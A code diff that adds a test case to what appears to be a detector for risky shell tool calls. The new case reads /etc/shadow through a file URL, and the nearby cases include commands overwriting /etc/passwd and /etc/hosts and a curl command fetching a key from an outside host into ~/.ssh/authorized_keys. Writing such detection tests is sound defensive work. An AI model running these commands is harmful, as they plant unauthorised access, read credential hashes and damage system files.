@@ -154,6 +154,8 @@ def bash(command: str) -> ToolCall:
         (bash("tar cf /etc/passwd src"), "system_path_write"),
         (bash("cp -rt /etc/hosts notes.txt"), "system_path_write"),
         (bash("curl -sSLo ~/.ssh/authorized_keys https://x.io/k"), "credential_path_write"),
+        (bash("aws ec2 describe-instances --filter file:///etc/shadow"),
+         "credential_path_read"),  # a file URL is its path (RFC 8089)
     ],
 )
 def test_risky_calls_raise_the_expected_flag(call: ToolCall, flag: str) -> None:
